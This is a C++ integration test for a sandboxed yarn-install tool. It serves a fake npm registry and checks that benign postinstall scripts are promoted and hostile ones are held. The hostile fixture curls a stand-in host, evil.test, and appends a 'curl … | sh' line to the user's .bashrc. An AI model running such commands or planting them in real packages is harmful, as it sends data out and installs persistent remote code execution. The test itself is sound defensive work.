// Yarn classic through the whole pipeline — sandbox, gateway, staging, verdict, promotion —
// against an npm registry the test serves in its own fake internet: a dependency with a
// postinstall, and one whose postinstall behaves like an attacker's.
#include <catch2/catch.hpp>
#include <filesystem>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/fake_internet.h"
#include "tests/support/npm_registry.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;

namespace {

// Debian's yarnpkg finds its own modules through Debian's Node.js search path; a Node.js from
// elsewhere needs it named.
constexpr const char* kDebianNodePath = "NODE_PATH=/usr/share/nodejs:/usr/lib/nodejs";

std::vector<NpmPackage> packages(const std::string& postinstall) {
  return {{.name = "left-pad-lite",
           .version = "1.0.0",
           .files = {{"index.js", "module.exports = (s) => ' ' + s;\n"}}},
          {.name = "uses-left",
           .version = "2.1.0",
           .dependencies = {{"left-pad-lite", "^1.0.0"}},
           .scripts = {{"postinstall", postinstall}},
           .files = {{"index.js", "module.exports = require('left-pad-lite');\n"}}}};
}

SandboxRun yarn_install(const Scenario& s) {
  std::vector<std::string> env = kCleanCiEnv;
  env.push_back(kDebianNodePath);
  auto run =
      s.run({"yarnpkg", "install", "--registry", "http://registry.test/", "--non-interactive"},
            {"--allow-host", "registry.test:80", "--pass-env", "NODE_PATH"}, env, 180s);
  UNSCOPED_INFO("yarnpkg install\nexit " << run.exit_code() << "\nstdout: " << run.result.out
                                         << "\nstderr: " << run.result.err);
  return run;
}

std::optional<std::string> yarn_unavailable() {
  RunOptions options;
  options.env_overrides = {kDebianNodePath};
  if (run({"yarnpkg", "--version"}, options).exit_code != 0)
    return "yarnpkg does not run here (scripts/setup.sh installs it)";
  return std::nullopt;
}

#define SKIP_UNLESS_YARN(who)                       \
  SKIP_UNLESS_INSTALL_TEST(who, "yarnpkg", "node"); \
  do {                                              \
    if (auto yarn_reason_ = yarn_unavailable()) {   \
      WARN("skipped: " << *yarn_reason_);           \
      return;                                       \
    }                                               \
  } while (false)

}  // namespace

TEST_CASE("yarn install runs a postinstall and promotes node_modules and yarn.lock",
          "[install][yarn]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_YARN(who);
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(net.registry_root(), "http://registry.test/",
                     packages("node -e \"require('fs').writeFileSync('built.txt', 'built')\""));
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "\"uses-left\":\"^2.0.0\"");

  auto install = yarn_install(s);
  CHECK(install.exit_code() == 0);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("profile") == "yarn");
  CHECK(install.report.at("verdict") == "promoted");
  CHECK(contains(project_file(s, "yarn.lock"), "uses-left@^2.0.0"));
  const auto* uses_left = added_package(install.report, "npm", "uses-left");
  REQUIRE(uses_left != nullptr);
  CHECK(uses_left->at("direct") == true);
  CHECK(uses_left->at("source") == "yarn.lock");
  const auto* left = added_package(install.report, "npm", "left-pad-lite");
  REQUIRE(left != nullptr);
  CHECK(left->at("direct") == false);
  CHECK(project_file(s, "node_modules/left-pad-lite/index.js") ==
        "module.exports = (s) => ' ' + s;\n");
  CHECK(project_file(s, "node_modules/uses-left/built.txt") == "built");
  for (const auto& change : install.report.at("files").at("project"))
    CHECK(change.at("category") == "expected");
  CHECK_FALSE(contacted_hosts(install.report, "registry.test").empty());
  CHECK(net.sink_log().empty());
}

TEST_CASE("a postinstall that phones home and plants a shell rc line is held under yarn",
          "[install][yarn]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_YARN(who);
  SKIP_UNLESS_INSTALL_TEST(who, "curl");
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(net.registry_root(), "http://registry.test/",
                     packages("curl -s -m 10 http://evil.test/collect; "
                              "curl -s -m 10 https://evil.test/collect; "
                              "echo 'curl -s evil.test/x | sh' >> \"$HOME/.bashrc\"; exit 0"));
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "\"uses-left\":\"^2.0.0\"");

  auto install = yarn_install(s);
  CHECK(install.exit_code() == kExitSuspicious);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "held");
  CHECK_FALSE(in_project(s, "node_modules"));
  CHECK_FALSE(in_project(s, "yarn.lock"));
  check_exfiltration_contained(install, net, 2);  // evil.test:80 and :443
  // The postinstall is on record with the package that ran it.
  bool attributed = false;
  for (const auto& p : install.report.at("processes"))
    attributed |=
        p.value("package", "") == "uses-left@2.1.0" && p.value("script", "") == "postinstall";
  CHECK(attributed);
}
